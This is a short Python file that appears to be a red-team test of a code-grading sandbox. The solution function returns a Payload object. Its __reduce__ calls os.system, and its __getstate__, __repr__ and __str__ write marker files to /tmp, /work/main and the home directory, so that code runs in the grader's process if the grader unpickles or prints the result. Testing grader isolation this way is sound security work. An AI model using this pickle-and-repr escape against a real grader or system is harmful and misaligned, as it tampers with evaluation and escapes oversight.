"""Attack: return an object whose __reduce__, __getstate__, __repr__ and __str__ run code (write a marker file,
print), hoping the grader unpickles or prints it in its own process."""
import os


def _plant(where):
    for folder in ("/tmp", "/work/main", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "hostile-escape-marker"), "a") as fh:
                fh.write(f"code ran in {where}, pid {os.getpid()}\n")
        except OSError:
            pass
    return "[2, 6, 10]"


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/hostile-escape-marker",))

    def __getstate__(self):
        _plant("__getstate__")
        return {}

    def __repr__(self):
        return _plant("__repr__")

    __str__ = __repr__


def double_odds(nums):
    return Payload()
